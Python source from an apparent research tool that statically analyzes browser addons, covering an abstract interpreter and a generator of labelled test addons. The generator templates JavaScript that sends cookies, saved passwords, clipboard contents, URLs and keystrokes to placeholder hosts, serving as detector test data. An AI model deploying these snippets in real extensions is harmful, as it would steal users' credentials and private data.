        fid = self.program.owner[stmt.sid]
        for target in targets:
            exc_state = state.copy()
            slot = Var(exception_slot(target), fid)
            exc_state.write_var(
                slot, builtins.ERROR_VALUE, strong=self._strong_var(slot, stmt.sid)
            )
            self._propagate(target, context, exc_state)

    def _strong_var(self, var: Var, sid: int) -> bool:
        """A variable write is strong (kills the old value) when the
        variable's abstract location stands for one concrete location:
        globals always; locals of the executing function unless that
        function may have several live frames (recursion)."""
        if var.scope == -1:  # GLOBAL_SCOPE
            return True
        return (
            var.scope == self.program.owner[sid]
            and var.scope not in self._multi_instance
        )

    def _note_call_edge(self, caller_fid: int, callee_fid: int) -> None:
        """Track the call graph; mark functions on call-graph cycles as
        multi-instance (their frames may coexist, so writes go weak)."""
        edges = self._call_graph.setdefault(caller_fid, set())
        if callee_fid in edges:
            return
        edges.add(callee_fid)
        # Does callee reach caller? Then the new edge closes a cycle.
        seen: set[int] = set()
        stack = [callee_fid]
        while stack:
            fid = stack.pop()
            if fid in seen:
                continue
            seen.add(fid)
            if fid == caller_fid:
                # Everything on a path callee ->* caller is in the cycle;
                # conservatively mark the whole reachable set.
                self._multi_instance.update(seen)
                return
            stack.extend(self._call_graph.get(fid, ()))

    # ------------------------------------------------------------------
    # Transfer functions

    def _eval(self, atom: Atom, state: State) -> AbstractValue:
        return _eval_atom(atom, state)

    def _object_method_lookup(self, state, obj_value, name):
        """Built-in methods on plain objects and arrays, looked up when an
        exact property name misses the object's own properties."""
        concrete = name.concrete()
        if concrete is None:
            return values_domain.BOTTOM
        result = values_domain.BOTTOM
        for address in obj_value.addresses:
            if not state.heap.contains(address):
                continue
            heap_obj = state.heap.get(address)
            if any(prop == concrete for prop, _ in heap_obj.properties):
                continue
            method_address = None
            if heap_obj.kind == "array":
                method_address = builtins.array_method_address(concrete)
            if method_address is None:
                method_address = builtins.object_method_address(concrete)
            if method_address is not None:
                result = result.join(values_domain.from_addresses(method_address))
        return result

    def _primitive_member(self, obj_value, name):
        """Property reads on primitives: string methods and length;
        number/boolean properties are (soundly) undefined."""
        result = values_domain.BOTTOM
        if not obj_value.number.is_bottom or not obj_value.boolean.is_bottom:
            result = result.join(values_domain.UNDEF)
        if obj_value.string.is_bottom:
            return result
        concrete = name.concrete()
        if concrete is None:
            return result.join(builtins.unknown_value())
        if concrete == "length":
            text = obj_value.string.concrete()
            if text is not None:
                return result.join(values_domain.from_constant(float(len(text))))
            return result.join(values_domain.ANY_NUMBER)
        address = builtins.string_method_address(concrete)
        if address is not None:
            return result.join(values_domain.from_addresses(address))
        return result.join(values_domain.UNDEF)

    # ------------------------------------------------------------------
    # Calls

    def _do_call(self, stmt: CallStmt | ConstructStmt, context: Context, state: State) -> None:
        callee = self._eval(stmt.callee, state)
        is_construct = isinstance(stmt, ConstructStmt)
        this_value = (
            self._eval(stmt.this, state)
            if not is_construct and stmt.this is not None
            else self.environment.global_this(state)
        )
        args = [self._eval(arg, state) for arg in stmt.args]

        native_result = values_domain.BOTTOM
        ran_native = False
        # Any primitive component (incl. undefined/null) means the callee
        # may not be callable: a potential implicit TypeError.
        may_be_nonfunction = callee.may_be_non_object()
        # The post-call state is only materialized when something (a
        # native stub, an unresolved callee) actually writes into it:
        # calls that resolve purely to closures skip the copy entirely.
        out_state: State | None = None

        for address in sorted(callee.addresses):
            if not state.heap.contains(address):
                continue
            heap_obj = state.heap.get(address)
            if heap_obj.closures:
                for fid in sorted(heap_obj.closures):
                    self._enter_function(
                        fid, stmt, context, state, this_value, args, is_construct
                    )
            elif heap_obj.native is not None and heap_obj.native in self.natives:
                if out_state is None:
                    out_state = state.copy()
                call = NativeCall(
                    interpreter=self,
                    state=out_state,
                    stmt=stmt,
                    context=context,
                    this=this_value,
                    args=args,
                    is_construct=is_construct,
                )
                native_result = native_result.join(self.natives[heap_obj.native](call))
                ran_native = True
            else:
                may_be_nonfunction = True  # plain object called

        if not callee.addresses:
            # Entirely unresolved callee (unmodeled global API): keep the
            # analysis going with an unknown result, and report it.
            self.unknown_callees.add(stmt.sid)
            ran_native = True
            if out_state is None:
                out_state = state.copy()
            if is_construct:
                address = self.alloc_at(
                    stmt.sid, salt=0, obj=interned_object(AbstractObject()),
                    state=out_state,
                )
                native_result = native_result.join(values_domain.from_addresses(address))
            else:
                native_result = native_result.join(builtins.unknown_value())

        if may_be_nonfunction:
            self._record_implicit_throw(stmt, context, state)

        if ran_native:
            if stmt.target is not None:
                out_state.write_var(
                    stmt.target,
                    native_result,
                    self._strong_var(stmt.target, stmt.sid),
                )
            self._flow_seq(stmt, context, out_state)

    def _enter_function(
        self,
        fid: int,
        call_stmt: Stmt,
        caller_context: Context,
        state: State,
        this_value: AbstractValue,
        args: list[AbstractValue],
        is_construct: bool,
    ) -> None:
        callee_context = self.sensitivity.push(caller_context, call_stmt.sid)
        self._note_call_edge(self.program.owner[call_stmt.sid], fid)
        self.call_edges.setdefault((call_stmt.sid, caller_context), set()).add(
            (fid, callee_context)
        )
        self._register_return_site(fid, callee_context, call_stmt.sid, caller_context)

        function = self.program.functions[fid]
        entry_state = state.copy()
        if is_construct:
            entry_state.heap.allocate(call_stmt.sid, interned_object(AbstractObject()))
            this_value = values_domain.from_addresses(call_stmt.sid)
        strong = fid not in self._multi_instance
        for index, param in enumerate(function.params):
            value = args[index] if index < len(args) else values_domain.UNDEF
            entry_state.write_var(Var(param, fid), value, strong)
        entry_state.write_var(Var("this", fid), this_value, strong)
        entry_state.write_var(Var(RETURN_SLOT, fid), values_domain.UNDEF, strong)
        self._propagate(function.entry.sid, callee_context, entry_state)

    def _register_return_site(
        self, fid: int, callee_context: Context, call_sid: int, caller_context: Context
    ) -> None:
        sites = self.return_sites.setdefault((fid, callee_context), set())
        site = (call_sid, caller_context)
        if site in sites:
            return
        sites.add(site)
        # If the callee exit has already been analyzed, flow its current
        # state back to the new site immediately.
        exit_sid = self.program.functions[fid].exit.sid
        exit_state = self.states.get((exit_sid, callee_context))
        if exit_state is not None:
            self._return_to(call_sid, caller_context, fid, exit_state.copy())

    def _do_exit(self, stmt: ExitStmt, context: Context, state: State) -> None:
        for call_sid, caller_context in self.return_sites.get(
            (stmt.function_id, context), set()
        ):
            self._return_to(call_sid, caller_context, stmt.function_id, state.copy())

    def _return_to(
        self, call_sid: int, caller_context: Context, fid: int, state: State
    ) -> None:
        call_stmt = self.program.stmts[call_sid]
        target = getattr(call_stmt, "target", None)
        if target is not None:
            result = state.read_var(Var(RETURN_SLOT, fid))
            if isinstance(call_stmt, ConstructStmt):
                # `new` evaluates to the fresh object unless the body
                # returned an object.
                result = values_domain.from_addresses(call_sid).join(
                    AbstractValue(addresses=result.addresses)
                )
            state.write_var(target, result, self._strong_var(target, call_sid))
        targets = [e.target for e in call_stmt.edges if e.kind is EdgeKind.SEQ]
        self._flow_to(targets, caller_context, state)

    # ------------------------------------------------------------------
    # Event loop

    def _do_event_loop(self, stmt: EventLoopStmt, context: Context, state: State) -> None:
        self._eventloop_nodes.add((stmt.sid, context))
        event = self.environment.event_value(state)
        this_value = self.environment.global_this(state)
        # Legacy DOM-style handlers dispatch at every loop (an
        # over-approximation for multi-component extensions; their
        # registrations are not component-scoped).
        dispatched = self.handler_value
        for address in sorted(self.handler_value.addresses):
            if not state.heap.contains(address):
                continue
            heap_obj = state.heap.get(address)
            for fid in sorted(heap_obj.closures):
                self._enter_function(
                    fid, stmt, context, state, this_value, [event],
                    is_construct=False,
                )
        # Channel handlers dispatch only at their own component's loop
        # (``None`` on either side means "unscoped": dispatch anywhere).
        channels = self.loop_channels.setdefault(stmt.sid, set())
        for (channel, component), value in sorted(
            self.channel_handlers.items(),
            key=lambda item: (item[0][0], item[0][1] or ""),
        ):
            if (
                component is not None
                and stmt.component is not None
                and component != stmt.component
            ):
                continue
            if not value.addresses:
                continue
            channels.add(channel)
            args = self._channel_args(channel, state)
            for address in sorted(value.addresses):
                if not state.heap.contains(address):
                    continue
                for fid in sorted(state.heap.get(address).closures):
                    self._enter_function(
                        fid, stmt, context, state, this_value, args,
                        is_construct=False,
                    )
            dispatched = dispatched.join(value)
        self.loop_dispatches[stmt.sid] = self.loop_dispatches.get(
            stmt.sid, values_domain.BOTTOM
        ).join(dispatched)
        self._flow_seq(stmt, context, state)

    def _channel_args(self, channel: str, state: State) -> list[AbstractValue]:
        """The argument vector for handlers dispatched on ``channel``.

        Handlers always dispatch, even when no in-extension write reached
        the channel: the environment's payload models the *external*
        sender (another extension, a web page via externally_connectable),
        which is attacker-controlled. Environments may refine the vector
        (duck-typed ``channel_args``); the default passes the payload."""
        payload = self.channel_payloads.get(channel, values_domain.BOTTOM)
        shape = getattr(self.environment, "channel_args", None)
        if shape is not None:
            return shape(channel, payload, state)
        return [payload]


def analyze(
    program: ProgramIR,
    environment: Environment | None = None,
    k: int = 1,
    max_steps: int = 400_000,
    budget: Budget | None = None,
    salvage: bool = False,
) -> AnalysisResult:
    """Run the base analysis (phase P1 of the paper's pipeline).

    ``budget`` bounds the fixpoint cooperatively (steps, wall clock,
    abstract states); ``max_steps`` is the legacy steps-only spelling.
    With ``salvage`` a tripped budget yields a degraded result instead
    of raising :class:`AnalysisBudgetExceeded`.
    """
    return Interpreter(
        program, environment, k=k, max_steps=max_steps,
        budget=budget, salvage=salvage,
    ).run()
