"""Context sensitivity for the base analysis.

The paper's base analysis is context-sensitive ("one node per statement
per context"). We use k-limited call-site sensitivity (k-CFA on call
strings): a context is the tuple of the most recent k call-site statement
ids. ``k=0`` degenerates to a context-insensitive analysis — the contexts
ablation benchmark sweeps k to show the precision/time trade-off.
"""

from __future__ import annotations

from dataclasses import dataclass

#: A context: the last k call-site statement ids, most recent last.
Context = tuple[int, ...]

#: The context of top-level code.
EMPTY_CONTEXT: Context = ()


@dataclass(frozen=True)
class CallSiteSensitivity:
    """k-limited call-string context policy."""

    k: int = 1

    def push(self, context: Context, call_site: int) -> Context:
        """The callee context for a call made at ``call_site``."""
        if self.k == 0:
            return EMPTY_CONTEXT
        return (context + (call_site,))[-self.k:]

    def __str__(self) -> str:
        return f"{self.k}-call-site"
