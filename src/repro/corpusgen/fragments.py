"""The verdict-carrying fragment library of the corpus generator.

A *fragment* is a small, self-contained piece of addon behavior whose
security-signature contribution is known **by construction**: each
builder returns both the JavaScript text and the exact signature entries
(:meth:`repro.signatures.Signature.render` lines) that the full pipeline
infers for it. Generated addons are compositions of fragments, and the
expected signature of the whole addon is the set union of its fragments'
entries — which holds because fragments are:

- **name-isolated** — every identifier a fragment introduces is drawn
  from a generator-unique pool, so no fragment's dataflow reaches
  another's;
- **top-level and order-independent** — with one audited exception:
  a fragment that *writes* ``content.location`` poisons the value any
  later ``content.location`` *reader* sees (the written prefix string
  leaks into the reader's inferred sink domain), so writers and readers
  of the location object carry conflicting ``group`` tags and the
  generator never mixes them (see ``tests/corpusgen``, which proves
  reorder/rename invariance property-style).

The expected entries are *pinned*, not derived: every template is
verified against the real pipeline by ``pytest -m fleet``
(``tests/corpusgen/test_generator.py``), which is what licenses the
fleet benchmark to treat a signature mismatch at 1k-addon scale as a
soundness bug rather than a generator bug.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

# ----------------------------------------------------------------------
# Fragment model


@dataclass(frozen=True)
class FragmentSpec:
    """One fragment template.

    ``arity`` is how many fresh identifiers the builder needs;
    ``needs_domain`` whether it takes a sink-domain URL; ``group`` a
    conflict tag (at most one of ``location-write`` per addon, and never
    together with ``location-read``); ``dynamic`` marks dynamic-code
    fragments (``eval``), which the relevance prefilter and the
    change-surface certificate both refuse — the generator keeps them
    out of update-chain bases so the incremental fast lane stays
    exercisable.
    """

    kind: str
    arity: int
    needs_domain: bool
    group: str = ""
    dynamic: bool = False
    flow: bool = True  #: contributes signature entries (False = benign)
    #: Contains a computed property access the pre-analysis resolver
    #: cannot bound (param-keyed), so the prefilter can never skip an
    #: addon holding it — kept out of the generator's benign draw pool
    #: (it would silently cut the fleet's prefilter hit rate) but in the
    #: library for tests that need an irreducibly-dynamic surface.
    dynamic_surface: bool = False


@dataclass(frozen=True)
class FragmentInstance:
    """A fragment with its slots filled: concrete text + exact entries."""

    kind: str
    text: str
    entries: tuple[str, ...]
    names: tuple[str, ...] = ()
    domain: str | None = None
    group: str = ""
    dynamic: bool = False


# ----------------------------------------------------------------------
# Single-file fragment builders
#
# Every builder takes (names, domain) and returns (text, entries). The
# sink URL is always built as ``'<domain>' + <tainted>``, so the
# inferred sink domain is the prefix element ``<domain>...`` — exactly
# what the entry strings below pin.


def _url_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = content.location.href;\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('GET', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"url -type1-> send({domain}...)",)


def _cookie_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = content.document.cookie;\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('POST', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"cookie -type1-> send({domain}...)",)


def _password_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = Services.logins.getAllLogins();\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('POST', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"password -type1-> send({domain}...)",)


def _clipboard_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, x = names
    text = (
        f"var {a} = Services.clipboard.getData();\n"
        f"var {x} = new XMLHttpRequest();\n"
        f"{x}.open('POST', '{domain}' + {a});\n"
        f"{x}.send(null);\n"
    )
    return text, (f"clipboard -type1-> send({domain}...)",)


def _key_exfil(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    e, x = names
    text = (
        f"window.addEventListener('keypress', function ({e}) {{\n"
        f"  var {x} = new XMLHttpRequest();\n"
        f"  {x}.open('POST', '{domain}' + {e}.keyCode);\n"
        f"  {x}.send(null);\n"
        f"}}, false);\n"
    )
    return text, (f"key -type1-> send({domain}...)",)


def _redirect(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    text = f"content.location.href = '{domain}' + content.location.href;\n"
    return text, (f"url -type1-> redirect({domain}...)",)


def _eval_use(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a = names[0]
    text = f"var {a} = eval('3 + 4');\n"
    return text, ("eval",)


def _scriptloader_use(
    names: tuple[str, ...], domain: str
) -> tuple[str, tuple[str, ...]]:
    text = f"Services.scriptloader.loadSubScript('{domain}helper.js');\n"
    return text, ("scriptloader",)


# Benign shapes: pure computation with no spec-surface names, so an
# addon made only of these is provably irrelevant and the prefilter can
# skip the interpreter for it (that is the fleet's prefilter workload).


def _benign_counter(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = 0;\n"
        f"function {b}(v) {{ return v + 2; }}\n"
        f"{a} = {b}({a}) * 3;\n"
        f"alert('count ' + {a});\n"
    )
    return text, ()


def _benign_strings(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = 'theme-';\n"
        f"var {b} = {a} + 'dark' + '-wide';\n"
        f"if ({b}.length > 4) {{ alert({b}); }}\n"
    )
    return text, ()


def _benign_loop(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = 1;\n"
        f"for (var {b} = 0; {b} < 5; {b} = {b} + 1) {{\n"
        f"  {a} = {a} + {b};\n"
        f"}}\n"
    )
    return text, ()


def _benign_object(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    a, b = names
    text = (
        f"var {a} = {{ total: 2, label: 'ok' }};\n"
        f"var {b} = {a}.total + 7;\n"
        f"{a}.total = {b};\n"
    )
    return text, ()


def _benign_table(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    """Computed property access with a *provably constant* key: the
    pre-analysis resolver bounds ``a[k]`` to ``{'alpha'}``, so the
    prefilter still skips an addon made of these — without resolution
    the site reads as dynamic and disqualifies the whole addon."""
    a, k, b = names
    text = (
        f"var {a} = {{ alpha: 4, beta: 9 }};\n"
        f"var {k} = 'alpha';\n"
        f"var {b} = {a}[{k}] + {a}['beta'];\n"
    )
    return text, ()


def _benign_pick(names: tuple[str, ...], domain: str) -> tuple[str, tuple[str, ...]]:
    """The irreducibly-dynamic variant: the key is a function parameter,
    which the resolver (soundly) refuses to bound — the site stays a
    residual dynamic-property site and the prefilter must run the full
    pipeline. Benign all the same: the object holds no spec surface."""
    a, f, b = names
    text = (
        f"var {a} = {{ gamma: 5, delta: 6 }};\n"
        f"function {f}(o, key) {{ return o[key]; }}\n"
        f"var {b} = {f}({a}, 'gamma') + {f}({a}, 'delta');\n"
    )
    return text, ()


#: The library. Flow fragments first, then APIs, then benign shapes.
FRAGMENTS: dict[str, tuple[FragmentSpec, object]] = {
    "url-exfil": (
        FragmentSpec("url-exfil", 2, True, group="location-read"), _url_exfil,
    ),
    "cookie-exfil": (FragmentSpec("cookie-exfil", 2, True), _cookie_exfil),
    "password-exfil": (FragmentSpec("password-exfil", 2, True), _password_exfil),
    "clipboard-exfil": (
        FragmentSpec("clipboard-exfil", 2, True), _clipboard_exfil,
    ),
    "key-exfil": (FragmentSpec("key-exfil", 2, True), _key_exfil),
    "redirect": (
        FragmentSpec("redirect", 0, True, group="location-write"), _redirect,
    ),
    "eval-use": (
        FragmentSpec("eval-use", 1, False, dynamic=True), _eval_use,
    ),
    "scriptloader-use": (
        FragmentSpec("scriptloader-use", 0, True), _scriptloader_use,
    ),
    "benign-counter": (
        FragmentSpec("benign-counter", 2, False, flow=False), _benign_counter,
    ),
    "benign-strings": (
        FragmentSpec("benign-strings", 2, False, flow=False), _benign_strings,
    ),
    "benign-loop": (
        FragmentSpec("benign-loop", 2, False, flow=False), _benign_loop,
    ),
    "benign-object": (
        FragmentSpec("benign-object", 2, False, flow=False), _benign_object,
    ),
    "benign-table": (
        FragmentSpec("benign-table", 3, False, flow=False), _benign_table,
    ),
    "benign-pick": (
        FragmentSpec("benign-pick", 3, False, flow=False, dynamic_surface=True),
        _benign_pick,
    ),
}

FLOW_KINDS: tuple[str, ...] = tuple(
    kind for kind, (spec, _) in FRAGMENTS.items() if spec.flow
)
#: The generator's benign draw pool; dynamic-surface shapes stay out
#: (an addon holding one can never be prefiltered).
BENIGN_KINDS: tuple[str, ...] = tuple(
    kind
    for kind, (spec, _) in FRAGMENTS.items()
    if not spec.flow and not spec.dynamic_surface
)
DYNAMIC_SURFACE_KINDS: tuple[str, ...] = tuple(
    kind for kind, (spec, _) in FRAGMENTS.items() if spec.dynamic_surface
)


def build_fragment(
    kind: str, names: tuple[str, ...], domain: str | None
) -> FragmentInstance:
    """Instantiate one fragment; ``names`` must supply ``spec.arity``
    fresh identifiers and ``domain`` a sink URL when the spec needs one."""
    spec, builder = FRAGMENTS[kind]
    if len(names) < spec.arity:
        raise ValueError(f"{kind} needs {spec.arity} names, got {len(names)}")
    resolved_domain = domain if spec.needs_domain else ""
    if spec.needs_domain and not resolved_domain:
        raise ValueError(f"{kind} needs a sink domain")
    text, entries = builder(tuple(names[: spec.arity]), resolved_domain)  # type: ignore[operator]
    return FragmentInstance(
        kind=kind,
        text=text,
        entries=entries,
        names=tuple(names[: spec.arity]),
        domain=resolved_domain if spec.needs_domain else None,
        group=spec.group,
        dynamic=spec.dynamic,
    )


def dead_code_block(names: tuple[str, ...], salt: int) -> str:
    """A verdict-preserving filler block: straight-line, call-free,
    touching only its own fresh names — which also makes it exactly the
    change shape the diffvet change-surface certificate can certify."""
    a, b = names
    return (
        f"var {a} = {salt % 97};\n"
        f"var {b} = {a} * 2 + {salt % 13};\n"
        f"{b} = {b} - {a};\n"
    )


# ----------------------------------------------------------------------
# WebExtension bundle templates


@dataclass(frozen=True)
class BundleTemplate:
    """A message-passing extension with a known signature.

    The shape is the DoubleX cookie-exfiltration pattern the webext
    mini-corpus pins (``examples/extensions/cookie_exfil*``): a content
    script relays page data to the background, whose handler reads every
    cookie and posts it out. ``guarded`` wraps the leak in a
    sender-identity check, which the conditional-flow rule downgrades to
    ``type3`` — both variants' exact entries are pinned here and
    verified by the fleet test suite.
    """

    domain: str
    guarded: bool
    #: Extra benign content scripts riding along (dead weight).
    extra_content: tuple[str, ...] = ()
    #: Dead-code padding appended per file: ``path -> code``.
    padding: tuple[tuple[str, str], ...] = ()
    benign: bool = False
    name: str = "generated"

    def entries(self) -> tuple[str, ...]:
        if self.benign:
            return ()
        flow_type = "type3" if self.guarded else None
        return (
            f"cookie -{flow_type or 'type1'}-> send({self.domain}...)",
            f"message -{flow_type or 'type2'}-> send({self.domain}...)",
            f"url -{flow_type or 'type2'}-> send({self.domain}...)",
        )

    def files(self) -> tuple[tuple[str, str], ...]:
        padding = dict(self.padding)
        if self.benign:
            background = "var idle0 = 1;\nidle0 = idle0 + 1;\n"
            content = "var idle1 = 2;\nidle1 = idle1 * 2;\n"
        else:
            guard_open = (
                "if (sender.url === 'https://app.example/') { "
                if self.guarded else ""
            )
            guard_close = " }" if self.guarded else ""
            background = (
                "chrome.runtime.onMessage.addListener("
                "function (m, sender, r) { "
                + guard_open
                + "chrome.cookies.getAll({domain: m.d}, function (data) { "
                + f"fetch('{self.domain}' + data[0].value + '&m=' + m.tag); "
                + "}); "
                + guard_close
                + "});\n"
            )
            content = (
                "chrome.runtime.sendMessage("
                "{d: document.location.hostname, tag: 'p'});\n"
            )
        produced = [
            ("bg.js", background + padding.get("bg.js", "")),
            ("c0.js", content + padding.get("c0.js", "")),
        ]
        for index, extra in enumerate(self.extra_content):
            path = f"c{index + 1}.js"
            produced.append((path, extra + padding.get(path, "")))
        return tuple(sorted(produced))

    def manifest_text(self) -> str:
        content_entries = [
            {"matches": ["<all_urls>"], "js": [path]}
            for path, _ in self.files()
            if path.startswith("c")
        ]
        return json.dumps(
            {
                "name": self.name,
                "version": "1.0",
                "manifest_version": 3,
                "permissions": [] if self.benign else ["cookies"],
                "background": {"service_worker": "bg.js"},
                "content_scripts": content_entries,
            },
            sort_keys=True,
        )

    def to_source(self) -> str:
        from repro.webext.loader import ExtensionBundle

        return ExtensionBundle(
            name=self.name,
            manifest_text=self.manifest_text(),
            files=self.files(),
        ).to_text()
