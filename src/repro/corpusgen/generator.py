"""``repro.corpusgen``: the seeded, verdict-carrying addon generator.

Emits store-scale corpora — single-file addons and multi-file
WebExtension bundles — where **every addon ships with its expected
verdict**: the exact signature the pipeline must infer for it. That
turns throughput benchmarks into soundness checks: the fleet harness
(:mod:`repro.corpusgen.fleet`) vets thousands of generated addons and
requires zero signature mismatches while it measures addons/s, cache,
prefilter and incremental hit rates, and peak RSS.

Generation is **deterministic per (seed, index)**: addon ``i`` of seed
``s`` is the same bytes on every machine and under any sharding, so a
mismatch in a fleet run is reproducible from its name alone.

Two mutation families refine a generated blueprint:

- **verdict-preserving** (``rename`` fresh identifiers, ``dead-code``
  churn, ``reorder`` of independent fragments) — the expected signature
  is *bit-identical* after the mutation (hypothesis-proven in
  ``tests/corpusgen``);
- **verdict-changing** (``inject-flow``, ``remove-flow``, and for
  bundles ``add-guard`` / ``strip-guard``) — each is tagged with its
  expected signature delta, and :func:`generate_updates` pairs an old
  and new version to derive the expected differential-vetting
  classification (``approve-fast``/``approve`` for preserving or
  narrowing mutations, ``re-review`` for widening ones).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace

from repro.corpusgen.fragments import (
    BENIGN_KINDS,
    FLOW_KINDS,
    FRAGMENTS,
    BundleTemplate,
    FragmentInstance,
    build_fragment,
    dead_code_block,
)

#: Identifier stems for generated names; the per-blueprint counter makes
#: every drawn name unique, so fragments can never capture each other's
#: variables (the composition property rests on this).
_NAME_STEMS = ("acc", "buf", "reg", "mix", "tot", "aux", "seq", "box")

#: Sink hosts; the path suffix keeps every domain prefix distinct.
_SINK_HOSTS = (
    "https://stats.corpus.example/v%d?u=",
    "https://collect.corpus.example/r%d?d=",
    "https://sink.corpus.example/x%d?p=",
    "https://beacon.corpus.example/b%d?q=",
)

#: Diffvet classifications a mutation class may legitimately produce.
PRESERVING_VERDICTS = ("approve", "approve-fast")
NARROWING_VERDICTS = ("approve",)
WIDENING_VERDICTS = ("re-review",)

#: The fast lane's default cost gate (see ``repro.batch``); update-chain
#: bases are padded past it so certification is attempted — which is
#: what lets a 1k fleet finally amortize the certificate's cost.
_GATE_CHARS = 4096


# ----------------------------------------------------------------------
# Blueprints


@dataclass(frozen=True)
class Blueprint:
    """The mutable-by-replacement recipe for one single-file addon."""

    fragments: tuple[FragmentInstance, ...]
    #: Interleaved dead-code blocks (position ``i`` renders before
    #: fragment ``i``; the tail block renders last).
    dead: tuple[str, ...]
    next_id: int  #: name-counter high-water mark (rename draws above it)

    def render(self) -> str:
        pieces: list[str] = []
        for index, fragment in enumerate(self.fragments):
            if index < len(self.dead):
                pieces.append(self.dead[index])
            pieces.append(fragment.text)
        pieces.extend(self.dead[len(self.fragments):])
        return "".join(pieces)

    def expected_entries(self) -> tuple[str, ...]:
        return tuple(
            sorted({entry for f in self.fragments for entry in f.entries})
        )


@dataclass(frozen=True)
class GeneratedAddon:
    """One generated addon and its expected verdict."""

    name: str
    kind: str  #: ``single`` | ``bundle``
    source: str
    #: The exact ``Signature.render()`` text the pipeline must produce.
    expected_signature: str
    expected_entries: tuple[str, ...]
    seed: int
    index: int
    fragments: tuple[str, ...]
    mutations: tuple[str, ...] = ()
    dynamic: bool = False  #: contains dynamic code (prefilter-refused)


@dataclass(frozen=True)
class GeneratedUpdate:
    """An old/new version pair with its expected diffvet classification."""

    name: str
    old_source: str
    new_source: str
    old_expected: str
    new_expected: str
    mutation: str
    #: The acceptable ``diff_verdict`` values for this mutation class.
    expected_verdicts: tuple[str, ...]
    kind: str = "single"


def expected_signature_text(entries: tuple[str, ...]) -> str:
    """Entries -> the canonical ``Signature.render()`` text."""
    return "\n".join(sorted(entries))


# ----------------------------------------------------------------------
# Drawing helpers


class _Names:
    """A unique-name tap over a blueprint's counter."""

    def __init__(self, rng: random.Random, start: int = 0) -> None:
        self.rng = rng
        self.counter = start

    def draw(self, count: int) -> tuple[str, ...]:
        drawn = []
        for _ in range(count):
            stem = self.rng.choice(_NAME_STEMS)
            drawn.append(f"{stem}{self.counter}")
            self.counter += 1
        return tuple(drawn)


def _draw_domain(rng: random.Random) -> str:
    return rng.choice(_SINK_HOSTS) % rng.randrange(1000)


def _draw_fragment(
    rng: random.Random, names: _Names, kinds: tuple[str, ...],
    present_groups: set[str],
) -> FragmentInstance | None:
    """Draw one fragment whose conflict group is compatible with what
    the blueprint already holds (location writers never meet location
    readers — or each other)."""
    allowed = []
    for kind in kinds:
        group = FRAGMENTS[kind][0].group
        if group == "location-write" and (
            "location-write" in present_groups or "location-read" in present_groups
        ):
            continue
        if group == "location-read" and "location-write" in present_groups:
            continue
        allowed.append(kind)
    if not allowed:
        return None
    kind = rng.choice(allowed)
    spec = FRAGMENTS[kind][0]
    return build_fragment(
        kind,
        names.draw(spec.arity),
        _draw_domain(rng) if spec.needs_domain else None,
    )


def _draw_blueprint(
    rng: random.Random,
    *,
    allow_dynamic: bool = True,
    min_flows: int = 0,
    pad_to: int = 0,
) -> Blueprint:
    """Draw one single-file blueprint: 1-4 fragments plus dead weight."""
    names = _Names(rng)
    flow_pool = tuple(
        k for k in FLOW_KINDS if allow_dynamic or not FRAGMENTS[k][0].dynamic
    )
    flow_count = max(min_flows, rng.choice((0, 0, 1, 1, 2, 3)))
    benign_count = rng.randrange(0 if flow_count else 1, 3)
    fragments: list[FragmentInstance] = []
    groups: set[str] = set()
    for _ in range(flow_count):
        fragment = _draw_fragment(rng, names, flow_pool, groups)
        if fragment is None:
            continue
        fragments.append(fragment)
        if fragment.group:
            groups.add(fragment.group)
    for _ in range(benign_count):
        fragment = _draw_fragment(rng, names, BENIGN_KINDS, groups)
        if fragment is not None:
            fragments.append(fragment)
    rng.shuffle(fragments)
    dead = tuple(
        dead_code_block(names.draw(2), rng.randrange(10_000))
        for _ in range(rng.randrange(0, 3))
    )
    blueprint = Blueprint(tuple(fragments), dead, names.counter)
    # Analysis-heavy padding: alternate benign loops (which cost the
    # interpreter fixpoint iterations while parsing stays linear) with
    # dead-weight blocks (churn material). Loop-dominated bases make
    # full re-analysis decisively more expensive than the certificate's
    # two-parse cost — measured ~120ms saved per certificate hit vs
    # ~21ms per miss — which is what lets the fast lane amortize at
    # fleet scale (pure straight-line padding breaks even at best).
    toggle = False
    while pad_to and len(blueprint.render()) < pad_to:
        if toggle:
            block = dead_code_block(names.draw(2), rng.randrange(10_000))
            blueprint = replace(
                blueprint, dead=blueprint.dead + (block,),
                next_id=names.counter,
            )
        else:
            loop = build_fragment("benign-loop", names.draw(2), None)
            blueprint = replace(
                blueprint, fragments=blueprint.fragments + (loop,),
                next_id=names.counter,
            )
        toggle = not toggle
    # Padded (update-chain) bases guarantee a non-empty dead-block
    # *tail*: with len(dead) > len(fragments) the trailing blocks render
    # after every fragment, giving tail-only dead-code churn (see
    # :func:`mutate_dead_code`) a certifiable place to land.
    while pad_to and len(blueprint.dead) <= len(blueprint.fragments):
        block = dead_code_block(names.draw(2), rng.randrange(10_000))
        blueprint = replace(
            blueprint, dead=blueprint.dead + (block,), next_id=names.counter
        )
    return blueprint


# ----------------------------------------------------------------------
# Verdict-preserving mutations (bit-identical expected signature)


def mutate_rename(blueprint: Blueprint, rng: random.Random) -> Blueprint:
